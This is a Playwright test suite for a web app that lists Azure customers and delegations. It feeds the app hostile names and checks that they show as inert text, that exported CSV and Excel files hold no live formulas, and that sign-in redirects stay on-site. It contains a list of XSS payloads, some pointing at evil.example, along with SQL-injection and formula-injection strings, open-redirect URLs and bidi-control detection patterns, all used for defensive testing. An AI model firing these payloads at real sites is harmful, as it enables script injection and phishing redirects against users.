import type { Page } from "@playwright/test";
import { readFileSync } from "node:fs";
import { expectNoSideScroll } from "./axe";
import { exported, readCsv, readExcel } from "./files";
import { expect, test, type WorldFile } from "./fixtures";
import { columnOf, rowsOf, tableOf, wholeTable } from "./table";

const hostile = JSON.parse(readFileSync("emulator/worlds/hostile.json", "utf8")) as WorldFile;

/** More ways to run something or to ask somebody; each names a subscription and an offer. */
const attacks = [
  "<img src=https://evil.example/a.png onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert&#40;1&#41;</script>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  '"><script src=https://evil.example/a.js></script>',
  "'-alert(1)-'",
  "</title><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<style>@import 'https://evil.example/a.css';</style>",
  "<link rel=stylesheet href=https://evil.example/b.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example/><button>Sign in again</button></form>",
  "<a href='javascript:alert(1)'>x</a>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<math><mtext></p><img src onerror=alert(1)>",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "${alert(1)} {{alert(1)}} <%= alert(1) %> #{alert(1)}",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "<!--<img src='--><img src=x onerror=alert(1)//'>",
  "` onmouseover=alert(1) `",
  "https://evil.example/ sign in here",
];

const world: WorldFile = {
  ...hostile,
  customers: [
    ...(hostile.customers ?? []),
    {
      name: "Attacks & Sons",
      subscriptions: attacks.map((attack) => ({
        name: attack,
        delegations: [
          {
            offer: attack,
            description: attack,
            plan: { publisher: "evil", product: attack, name: "=1+1", version: "<b>1</b>" },
            authorizations: [{ principal: "<script>alert('group')</script>", role: "Reader", label: attack }],
          },
        ],
      })),
    },
  ],
};
test.use({ world });

/** Whatever could still turn, hide or split the text around it. */
const raw = /[\u202a-\u202e\u2066-\u2069\u061c\u200b\u2060\ufeff\0-\x08\x0e-\x1f]/;

test.beforeEach(async ({ page, watched }) => {
  page.on("dialog", (dialog) => {
    watched.offences.push(`ran: ${dialog.type()} ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    for (const name of ["alert", "confirm", "prompt", "open"] as const)
      Reflect.set(window, name, () => Reflect.set(window, "__pwned", name));
  });
});

test.afterEach(async ({ page }) => {
  expect(await page.evaluate(() => Reflect.get(window, "__pwned"))).toBeUndefined();
});

/** What is in the page is text: no element of theirs, and no link that leads elsewhere than here or to the portal. */
async function expectTextOnly(page: Page, state: string) {
  const foreign = page.locator(
    "img, iframe, object, embed, form, base, math, audio, video, style:not(head style), meta[http-equiv], [onerror], [onload], [onmouseover], [ontoggle], [autofocus]",
  );
  await expect(foreign, state).toHaveCount(0);
  const links = await page
    .locator("a[href]")
    .evaluateAll((all) => all.filter((link) => link instanceof HTMLAnchorElement).map(({ href }) => href));
  const here = new URL(page.url()).origin;
  for (const href of links)
    expect(href.startsWith(`${here}/`) || href.startsWith("https://portal.azure.com/#@"), `${state}: ${href}`).toBe(
      true,
    );
  expect(await page.locator("body").innerText(), state).not.toMatch(raw);
  expect(await page.title(), state).not.toMatch(raw);
  await expectNoSideScroll(page, state);
}

test("hostile names are shown as what they are, everywhere, and nothing of them runs", async ({ page, signIn }) => {
  test.setTimeout(120_000);
  await page.goto("/customers");
  await page.getByRole("button", { name: "Continue to Entra ID" }).click();
  await expect(page.getByText("Robert'); DROP TABLE users;--")).toBeVisible();
  await expect(page.locator("img, script:not([src])")).toHaveCount(0);
  await signIn("Robert'\\); DROP", "/customers");
  const table = await wholeTable(page);
  await expect(rowsOf(table)).toHaveCount(world.customers?.length ?? 0);
  for (const name of ["<script>alert('customer')</script>", "=1+1", "__proto__", "Attacks & Sons"])
    await expect(table.getByRole("link", { name, exact: true })).toBeVisible();
  await expectTextOnly(page, "customers");
  for (const facet of ["Offer", "Source"]) {
    await page.getByRole("search").getByRole("button", { name: facet, exact: true }).click();
    await expect(page.getByRole("dialog", { name: `Filter by ${facet.toLowerCase()}` })).toBeVisible();
    await expectTextOnly(page, `filter ${facet}`);
    await page.keyboard.press("Escape");
  }
  await page.goto("/customers?group=offer");
  await wholeTable(page);
  await expectTextOnly(page, "customers by offer");

  await page.goto("/customers?q=attacks");
  await wholeTable(page);
  await tableOf(page).getByRole("link", { name: "Attacks & Sons" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "Attacks & Sons" })).toBeVisible();
  await expect(rowsOf(await wholeTable(page)).first()).toBeVisible();
  for (const attack of attacks.slice(0, 5))
    await expect(tableOf(page).getByRole("link", { name: attack, exact: true })).toHaveCount(1);
  await page.getByRole("button", { name: "Open in Azure portal" }).click();
  await expect(page.getByRole("menuitem", { name: "<svg/onload=alert(1)>" })).toBeVisible();
  await expectTextOnly(page, "one customer");
  await page.keyboard.press("Escape");

  await rowsOf(tableOf(page)).first().getByRole("link").first().click();
  const panel = page.getByRole("complementary");
  const next = panel.getByRole("button", { name: "Next" });
  for (const summary of await panel.getByText("Show the record").all()) await summary.click();
  await expectTextOnly(page, "first delegation");
  let seen = 1;
  for (; await next.isEnabled(); seen++) {
    const title = await panel.getByRole("heading", { level: 2 }).innerText();
    await next.click();
    await expect(panel.getByRole("heading", { level: 2 })).not.toHaveText(title);
    await page.locator("body").evaluate((body) => body.dispatchEvent(new MouseEvent("mouseover", { bubbles: true })));
  }
  expect(seen).toBe(attacks.length);
  await expectTextOnly(page, "last delegation");
});

test("marks that turn text around turn nothing, and are made visible", async ({ page, signIn }) => {
  await signIn("Robert'\\); DROP", "/customers");
  await wholeTable(page);
  const row = rowsOf(tableOf(page)).filter({ hasText: "orfeR dna htimS" });
  await expect(row.getByRole("link").first()).toHaveText("⟨202E⟩orfeR dna htimS⟨202C⟩ Ltd");
  const lefts = await row
    .getByRole("gridcell")
    .evaluateAll((cells) => cells.map((cell) => cell.getBoundingClientRect().left));
  expect(lefts).toEqual([...lefts].sort((a, b) => a - b));

  await page.goto("/delegations");
  const table = await wholeTable(page);
  const heights = await rowsOf(table).evaluateAll((rows) => rows.map((one) => one.getBoundingClientRect().height));
  expect(new Set(heights).size).toBe(1);
  await expectTextOnly(page, "delegations");

  await page.getByRole("searchbox").fill("العربية");
  await expect(rowsOf(table)).toHaveCount(1);
  await expect(rowsOf(table).getByRole("link")).toHaveText("⟨2066⟩אבג⟨2069⟩ العربية");
  expect(await rowsOf(table).evaluate((one) => getComputedStyle(one).direction)).toBe("ltr");
  await page.getByRole("searchbox").fill("width");
  await expect(rowsOf(table).first()).toContainText(/Zero⟨200B⟩Width\u200d?⟨2060⟩Joiner/);
});

for (const width of [1440, 390])
  test(`a name of 10,000 characters breaks no page of ${width} pixels`, async ({ page, signIn }) => {
    await page.setViewportSize({ width, height: 844 });
    await signIn("Robert'\\); DROP", "/customers?q=long%20name");
    const table = await wholeTable(page);
    await expect(rowsOf(table)).toHaveCount(1);
    const height = await rowsOf(table).evaluate((row) => row.getBoundingClientRect().height);
    expect(height).toBeLessThanOrEqual(60);
    await expectTextOnly(page, "customers");

    // Its middle lies far beyond the cell that clips it.
    const start = { position: { x: 12, y: 8 } };
    await rowsOf(table).getByRole("link", { name: "Long name" }).click(start);
    await expect(page.getByRole("heading", { level: 1, name: /^Long name x+…?$/ })).toBeInViewport();
    await expect(page).toHaveTitle(/^Long name x+… · Fresnel$/);
    expect((await page.title()).length).toBeLessThan(120);
    await expectTextOnly(page, "one customer");
    await rowsOf(await wholeTable(page))
      .getByRole("link")
      .first()
      .click(start);
    const panel = page.getByRole("complementary");
    await expect(panel.getByRole("button", { name: "Close" })).toBeInViewport();
    await panel.getByText("Show the record").last().click();
    const [needed, has] = await panel.evaluate((element) => [element.scrollWidth, element.clientWidth]);
    expect(needed).toBeLessThanOrEqual(has ?? 0);
    await expectTextOnly(page, "one delegation");
  });

const number = /^[+-]?[\d,.]+(e[+-]?\d+)?\s?%?$/i;
const live = /^[\s\u00a0\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\0-\x1f"]*[=+\-@|\uff1d\uff0b\uff0d\uff20]/;
/** Spreadsheets that split at other signs than commas must find nothing either. */
const parts = (cell: string) => cell.split(/[\r\n\t;]/);

for (const [path, numbers, column] of [
  [
    "/customers?cols=tenant,subscriptions,resource-groups,delegations,offer,version,source,state,last-change,domain",
    ["Whole subscriptions", "Resource groups", "Delegations"],
    "Customer",
  ],
  [
    "/delegations?cols=customer,offer,source,standing,eligible,kind,state,last-change,tenant,subscription,assignment",
    ["Standing", "Eligible"],
    "Customer",
  ],
] as const)
  test(`no file of ${path.split("?")[0]} holds a formula that runs`, async ({ page, signIn }) => {
    await signIn("Robert'\\); DROP", path);
    const table = await wholeTable(page);
    const count = Number(await table.getAttribute("aria-rowcount")) - 1;

    const csv = (await exported(page, "CSV")).content.toString();
    const [head = [], ...lines] = readCsv(csv);
    expect(lines).toHaveLength(count);
    for (const line of lines) {
      expect(line).toHaveLength(head.length);
      for (const [index, cell] of line.entries()) {
        if (numbers.some((name) => name === head[index])) expect(cell).toMatch(/^\d+$/);
        if (!number.test(cell)) for (const part of parts(cell)) expect(part, cell).not.toMatch(live);
      }
    }
    const names = lines.map((line) => line[head.indexOf(column)]);
    expect(names).toContain("'=1+1");
    expect(names).toContain("<script>alert('customer')</script>");
    const dates = lines.map((line) => line[head.indexOf("Last change")] ?? "");
    expect(dates.every((date) => new Date(date).toISOString() === date)).toBe(true);

    const excel = readExcel((await exported(page, "Excel")).content);
    expect(excel.live).toBe(0);
    expect(excel.cells).toHaveLength(count + 1);
    expect(excel.cells.map((line) => line[head.indexOf(column)])).toContain("=1+1");

    const json = JSON.parse((await exported(page, "JSON")).content.toString()) as { rows: Record<string, unknown>[] };
    expect(json.rows).toHaveLength(count);
    expect(json.rows.map((row) => row["name"] ?? row["customerName"])).toContain("=1+1");
    expect(await columnOf(table, column)).toContain("=1+1");
  });

test("addresses that somebody made up run nothing and lead nowhere else", async ({ page, signIn, stage }) => {
  const script = encodeURIComponent("<img src=x onerror=alert(1)>");
  await page.goto("/sign-in?to=javascript:alert(1)");
  await expect(page.getByRole("button", { name: "Continue to Entra ID" })).toBeEnabled();
  await signIn("Robert'\\); DROP", `/customers?q=${script}here&sort=${script}&${script}=1`);
  await expect(page.getByRole("heading", { name: "No customer matches" })).toBeVisible();
  await expect(page.getByRole("main")).toContainText("text contains “<img src=x onerror=alert(1)>here”");
  await expect(page.getByRole("status").filter({ hasText: "that part was ignored" })).toContainText("<img src=x");
  await expectTextOnly(page, "customers");
  for (const to of [
    "//evil.example/",
    "https://evil.example/",
    "/\\evil.example",
    "javascript:alert(1)",
    "/\t/evil.example",
  ]) {
    await page.goto(`/sign-in?to=${encodeURIComponent(to)}`);
    await page.waitForURL((url) => url.origin === stage.url && url.pathname !== "/sign-in");
    await expect(page.getByRole("main")).toBeVisible();
  }
  for (const path of [`/customers/${script}`, `/delegations?open=${script}`, "/delegations?open=javascript:alert(1)"]) {
    await page.goto(path);
    await expect(
      page.getByRole("heading", { name: /There is no such|You see no such|Not among|This is no/ }),
    ).toBeVisible();
    await expectTextOnly(page, path);
  }
});

test.describe("where Azure itself answers with an attack", () => {
  const message = "<img src=https://evil.example/c.png onerror=alert(1)> \u202eesrever";
  test.use({
    world: {
      ...world,
      faults: [
        { service: "graph", effect: { kind: "status", status: 403, code: "<b>Denied</b>", message } },
        { service: "resourceGraph", effect: { kind: "status", status: 400, code: "<i>No</i>", message } },
      ],
    },
  });

  test("its words are text too", async ({ page, signIn }) => {
    await signIn("Robert'\\); DROP");
    await wholeTable(page, "customers");
    await expect(rowsOf(tableOf(page))).not.toHaveCount(0);
    for (const row of await rowsOf(tableOf(page)).all()) await expect(row).toContainText("Could not be read");
    await expect(page.getByRole("link", { name: "Delegations", exact: true })).toBeVisible();
    await expect(page.getByRole("main")).toContainText(/customers.*\?.*delegations/s);
    await expectTextOnly(page, "customers");
    await page.getByRole("link", { name: "Delegations", exact: true }).click();
    await expect(page.getByRole("heading", { name: "Nothing could be read" })).toBeVisible();
    await expectTextOnly(page, "delegations");
    await page.getByRole("button", { name: /^as of/ }).click();
    const panel = page.getByRole("dialog", { name: "Freshness" });
    await expect(panel).toContainText("<img src=https://evil.example/c.png");
    await expect(panel.locator("b, i")).toHaveCount(0);
    await expectTextOnly(page, "coverage");
  });
});
